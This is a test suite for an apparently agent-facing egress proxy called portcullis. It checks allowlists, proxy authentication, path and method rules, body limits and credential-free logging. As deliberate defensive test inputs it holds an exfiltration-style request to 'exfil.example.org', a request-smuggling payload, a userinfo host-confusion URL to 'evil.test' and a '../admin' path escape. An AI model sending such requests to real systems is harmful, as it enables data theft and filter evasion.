import { fetch as undiciFetch, ProxyAgent } from 'undici';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { curl, raw } from '../helpers/clients.js';
import { startHarness, startOrigin, type Harness, type Origin } from '../helpers/harness.js';

describe('plain HTTP through the proxy', () => {
  let h: Harness;
  let origin: Origin;
  let token: string;
  let sessionId: string;

  beforeAll(async () => {
    origin = await startOrigin();
    h = await startHarness({
      policy: `
version: 1
destinations:
  origin:
    hosts: [origin.test]
    ports: [${origin.port}]
    allowPrivate: [127.0.0.1/32]
  ruled:
    hosts: [ruled.test]
    ports: [${origin.port}]
    methods: [GET]
    paths: ["/allowed/**"]
    allowPrivate: [127.0.0.1/32]
  private-only:
    hosts: [private.test]
    ports: [${origin.port}]
accounts:
  - match: "agent-*"
    allow: [origin, ruled, private-only]
deny:
  hosts: [denied.test]
limits:
  maxRequestBodyBytes: 1000
`,
    });
    h.dns.setRecords({ 'origin.test': { A: ['127.0.0.1'] }, 'ruled.test': { A: ['127.0.0.1'] }, 'private.test': { A: ['127.0.0.1'] }, 'nx.test': { rcode: 'NXDOMAIN' } });
    ({ token, id: sessionId } = await h.createSession('agent-1'));
  });

  afterAll(async () => {
    await h?.close();
    await origin?.close();
  });

  test('curl -x forwards an allowed request with the canonical Host and no proxy headers', async () => {
    const r = await curl(['-x', h.proxyUrl('agent-1', token), `http://ORIGIN.test.:${origin.port}/hello?x=1`, '-H', 'X-Portcullis-Reason: forged-by-client']);
    expect(r.status).toBe(200);
    expect(JSON.parse(r.body)).toMatchObject({ method: 'GET', url: '/hello?x=1', host: `origin.test:${origin.port}` });
    const seen = origin.seen.at(-1)!;
    expect(seen.headers['proxy-authorization']).toBeUndefined();
    expect(seen.headers['proxy-connection']).toBeUndefined();
    expect(seen.headers['x-portcullis-reason']).toBeUndefined();
    // The origin's forged proxy header is dropped; its own headers pass.
    expect(r.headers['x-portcullis-reason']).toBeUndefined();
    expect(r.headers['x-origin']).toBe('yes');
    const line = h.logs.egress().find((l) => l['path'] === '/hello')!;
    expect(line).toMatchObject({ kind: 'http', decision: 'allow', reason: 'allowlisted', account: 'agent-1', sessionId, host: 'origin.test', port: origin.port, queryLength: 3, destination: 'origin', resolvedIp: '127.0.0.1', status: 200 });
  });

  test('a denied name is answered 403 and never resolved', async () => {
    const before = h.dns.queries.length;
    const r = await curl(['-x', h.proxyUrl('agent-1', token), 'http://exfil.example.org/?data=secret']);
    expect(r.status).toBe(403);
    expect(r.headers['x-portcullis-reason']).toBe('not_allowlisted');
    expect(JSON.parse(r.body)).toMatchObject({ error: 'egress_denied', reason: 'not_allowlisted' });
    const d = await curl(['-x', h.proxyUrl('agent-1', token), 'http://denied.test/']);
    expect(d.headers['x-portcullis-reason']).toBe('denied_host');
    expect(h.dns.queries.slice(before).map((q) => q.name)).not.toContain('exfil.example.org');
    expect(h.dns.queries.slice(before).map((q) => q.name)).not.toContain('denied.test');
  });

  test('407 challenge, then credentials', async () => {
    const r = await curl(['-x', `http://127.0.0.1:${h.proxyPort}`, `http://origin.test:${origin.port}/`]);
    expect(r.status).toBe(407);
    expect(r.headers['proxy-authenticate']).toBe('Basic realm="portcullis"');
    expect(r.headers['x-portcullis-reason']).toBe('auth_missing');
    const bad = await curl(['-x', h.proxyUrl('agent-1', 'pcs_0123456789abcdef_' + 'A'.repeat(43)), `http://origin.test:${origin.port}/`]);
    expect(bad.headers['x-portcullis-reason']).toBe('auth_invalid');
    const wrongUser = await curl(['-x', h.proxyUrl('agent-2', token), `http://origin.test:${origin.port}/`]);
    expect(wrongUser.headers['x-portcullis-reason']).toBe('auth_invalid');
    // --proxy-anyauth makes curl wait for the challenge before sending credentials.
    const ok = await curl(['--proxy-anyauth', '-x', h.proxyUrl('agent-1', token), `http://origin.test:${origin.port}/after-challenge`]);
    expect(ok.status).toBe(200);
  });

  test('methods and paths are enforced on plain HTTP, dot segments included', async () => {
    const ok = await curl(['-x', h.proxyUrl('agent-1', token), `http://ruled.test:${origin.port}/allowed/a`]);
    expect(ok.status).toBe(200);
    const post = await curl(['-x', h.proxyUrl('agent-1', token), '-d', 'x', `http://ruled.test:${origin.port}/allowed/a`]);
    expect(post.headers['x-portcullis-reason']).toBe('method_not_allowed');
    const escape = await curl(['--path-as-is', '-x', h.proxyUrl('agent-1', token), `http://ruled.test:${origin.port}/allowed/../admin`]);
    expect(escape.headers['x-portcullis-reason']).toBe('path_not_allowed');
  });

  test('a name resolving to loopback without allowPrivate is denied after resolution', async () => {
    const r = await curl(['-x', h.proxyUrl('agent-1', token), `http://private.test:${origin.port}/`]);
    expect(r.status).toBe(403);
    expect(r.headers['x-portcullis-reason']).toBe('ip_loopback');
  });

  test('an unresolvable allowed name is a 502 dns_error, not a denial', async () => {
    await h.setPolicy((await import('node:fs')).readFileSync(h.app.policy.file, 'utf8').replace('hosts: [origin.test]', 'hosts: [origin.test, nx.test]'));
    const r = await curl(['-x', h.proxyUrl('agent-1', token), `http://nx.test:${origin.port}/`]);
    expect(r.status).toBe(502);
    expect(r.headers['x-portcullis-reason']).toBe('dns_error');
  });

  test('origin-form and malformed requests are 400 and dial nothing', async () => {
    const before = origin.seen.length;
    const out = await raw(h.proxyPort, 'GET /hello HTTP/1.1\r\nHost: origin.test\r\n\r\n');
    expect(out).toMatch(/^HTTP\/1\.1 400/);
    expect(out).toContain('"reason":"bad_request"');
    const smuggle = await raw(h.proxyPort, `POST http://origin.test:${origin.port}/ HTTP/1.1\r\nHost: origin.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`);
    expect(smuggle).toMatch(/^HTTP\/1\.1 400/);
    const userinfo = await raw(h.proxyPort, `GET http://origin.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`);
    expect(userinfo).toMatch(/^HTTP\/1\.1 400/);
    expect(origin.seen.length).toBe(before);
  });

  test('a body over the cap is 413 before upstream is contacted', async () => {
    const before = origin.seen.length;
    const r = await curl(['-x', h.proxyUrl('agent-1', token), '--data-binary', 'x'.repeat(2000), `http://origin.test:${origin.port}/upload`]);
    expect(r.status).toBe(413);
    expect(r.headers['x-portcullis-reason']).toBe('body_too_large');
    expect(origin.seen.length).toBe(before);
  });

  test('Expect: 100-continue is answered by the proxy only after the decision', async () => {
    const denied = await raw(
      h.proxyPort,
      `POST http://exfil.example.org/ HTTP/1.1\r\nHost: exfil.example.org\r\nProxy-Authorization: Basic ${Buffer.from(`agent-1:${token}`).toString('base64')}\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n`,
    );
    expect(denied).not.toContain('100 Continue');
    expect(denied).toMatch(/^HTTP\/1\.1 403/);
    const r = await curl(['-x', h.proxyUrl('agent-1', token), '-H', 'Expect: 100-continue', '--data-binary', 'hello', `http://origin.test:${origin.port}/continue`]);
    expect(r.status).toBe(200);
    expect(JSON.parse(r.body)).toMatchObject({ bodyLength: 5 });
    expect(origin.seen.at(-1)!.headers['expect']).toBeUndefined();
  });

  test("undici's ProxyAgent works (it tunnels http:// URLs through CONNECT)", async () => {
    const agent = new ProxyAgent({ uri: `http://127.0.0.1:${h.proxyPort}`, token: `Basic ${Buffer.from(`agent-1:${token}`).toString('base64')}` });
    try {
      const res = await undiciFetch(`http://origin.test:${origin.port}/via-undici`, { dispatcher: agent });
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({ url: '/via-undici' });
    } finally {
      await agent.close();
    }
    const line = h.logs.egress().filter((l) => l['kind'] === 'connect').at(-1)!;
    expect(line).toMatchObject({ decision: 'allow', host: 'origin.test', port: origin.port });
  });

  test('a connection stays bound to its first session', async () => {
    const other = await h.createSession('agent-1', 'second');
    const auth = (t: string) => `Proxy-Authorization: Basic ${Buffer.from(`agent-1:${t}`).toString('base64')}\r\n`;
    const req = (t: string) => `GET http://origin.test:${origin.port}/bind HTTP/1.1\r\nHost: origin.test\r\n${auth(t)}\r\n`;
    const out = await raw(h.proxyPort, req(token) + req(other.token), 2000);
    const statuses = [...out.matchAll(/HTTP\/1\.1 (\d{3})/g)].map((m) => m[1]);
    expect(statuses).toEqual(['200', '407']);
  });

  test('no credential ever appears in a log line', () => {
    expect(h.logs.text()).not.toContain(token.slice(-43));
    expect(h.logs.text()).not.toContain(h.adminToken);
    expect(h.logs.text()).not.toMatch(/Basic [A-Za-z0-9+/=]{20,}/);
  });
});
